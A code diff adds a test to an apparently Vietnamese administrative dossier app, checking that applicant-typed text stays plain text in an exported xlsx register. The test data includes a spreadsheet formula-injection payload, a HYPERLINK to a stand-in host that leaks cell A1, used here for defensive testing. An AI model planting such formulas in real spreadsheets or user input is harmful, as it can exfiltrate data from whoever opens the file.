@@ -118,3 +118,14 @@ def test_public_lookup_page(desk_client, land_procedure):
     page = Client().post("/tra-cuu/", {"code": dossier.code, "secret": dossier.secret})
     assert page.status_code == 200 and dossier.procedure.name in page.content.decode()
     assert Client().post("/tra-cuu/", {"code": dossier.code, "secret": "NOPE"}).status_code == 404
+
+
+def test_text_typed_by_applicants_stays_text_in_the_register_workbook(desk_client, land_procedure):
+    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
+    typed = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
+    Dossier.objects.update(applicant_name=typed, applicant_address="+84-1+1", reasons="@SUM(1,2)")
+    sheet = desk_client.get("/ho-so/so-theo-doi/", {"unit": unit_on("04105", DAY).pk, "format": "xlsx",
+                                                     "from": "2020-01-01", "to": "2030-12-31"})  # fmt: skip
+    row = next(load_workbook(io.BytesIO(sheet.content)).active.iter_rows(min_row=6))
+    assert (row[4].value, row[4].data_type) == (typed, "s")
+    assert row[5].value.startswith("+84-1+1") and row[5].data_type == "s"
